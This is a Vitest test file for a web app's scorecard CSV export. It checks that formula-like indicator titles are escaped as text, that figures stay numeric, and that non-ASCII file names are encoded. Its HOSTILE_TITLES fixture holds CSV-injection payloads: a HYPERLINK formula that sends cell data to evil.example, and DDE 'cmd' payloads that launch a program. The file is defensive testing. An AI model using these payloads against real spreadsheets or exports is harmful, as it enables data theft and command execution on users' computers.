import { parse } from "csv-parse/sync";
import { and, eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loader as scorecardCsv } from "../../app/routes/o.$orgSlug.scorecard[.csv]";
import { findOrganisationBySlug } from "../../db/queries/organisations";
import { areas, indicators } from "../../db/schema/performance";
import { SYSTEM_ACTOR } from "../../server/audit";
import { addMember } from "../../server/commands/user-creator";
import { cookieFor, createTestServices, loadContext } from "../support/test-services";

/*
 * The scorecard CSV opened in a spreadsheet: a title that an import made start with =,
 * +, -, @, a tab or a carriage return is shown as text, never run as a formula, while
 * the figures stay numbers.
 */

let services: Awaited<ReturnType<typeof createTestServices>>;
let cookie: string;
let organisationId: string;

const HOSTILE_TITLES: Record<string, string> = {
  BV66a: '=HYPERLINK("https://evil.example/?"&A1,"Rent collected")',
  BV66b: "+1+cmd|' /C calc'!A0",
  BV212: "-2+3+cmd|' /C calc'!A0",
  BV184a: "@SUM(1+1)*cmd|' /C calc'!A0",
};

beforeAll(async () => {
  services = await createTestServices("demo");
  organisationId = (await findOrganisationBySlug(services.db, "northfield"))!.id;
  for (const [code, title] of Object.entries(HOSTILE_TITLES)) {
    await services.db
      .update(indicators)
      .set({ title })
      .where(and(eq(indicators.organisationId, organisationId), eq(indicators.code, code)));
  }
  const viewer = await addMember(
    services.db,
    { organisationId, email: "csv-reader@example.org", role: "viewer", password: "a-long-password" },
    SYSTEM_ACTOR,
  );
  cookie = await cookieFor(services, viewer.id);
});
afterAll(() => services.cleanup());

async function download(search = "?period=2026-10") {
  const request = new Request(`http://localhost/o/northfield/scorecard.csv${search}`, { headers: { Cookie: cookie } });
  const response = (await scorecardCsv({
    request,
    context: loadContext(services),
    params: { orgSlug: "northfield" },
  })) as Response;
  return response;
}

describe("the scorecard CSV", () => {
  it("shows every title that would start a formula as text, and keeps the figures as numbers", async () => {
    const response = await download();
    expect(response.status).toBe(200);
    const [header, ...rows] = parse((await response.text()).replace(/^\uFEFF/, "")) as string[][];
    const column = (name: string) => header.indexOf(name);
    const byCode = new Map(rows.map((r) => [r[column("code")], r]));
    for (const [code, title] of Object.entries(HOSTILE_TITLES)) {
      expect(byCode.get(code)?.[column("title")]).toBe(`'${title}`);
    }
    for (const row of rows) {
      // No cell of the file starts a formula.
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      for (const name of ["value", "target", "tolerance", "ytd", "previous_year_value"]) {
        const cell = row[column(name)];
        if (cell !== "") expect(Number.isFinite(Number(cell)), `${name} ${cell}`).toBe(true);
      }
    }
  });

  it("names the file of an area whose name is not plain ASCII without failing", async () => {
    const [north] = await services.db
      .select({ id: areas.id })
      .from(areas)
      .where(and(eq(areas.organisationId, organisationId), eq(areas.name, "North")));
    await services.db.update(areas).set({ name: 'Tŷ "Ŵyn"' }).where(eq(areas.id, north.id));
    const response = await download(`?period=2026-10&area=${encodeURIComponent('Tŷ "Ŵyn"')}`);
    expect(response.status).toBe(200);
    const disposition = response.headers.get("Content-Disposition")!;
    expect(disposition).toMatch(/^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''/);
    expect(decodeURIComponent(disposition.split("UTF-8''")[1])).toContain('tŷ "ŵyn"');
  });
});
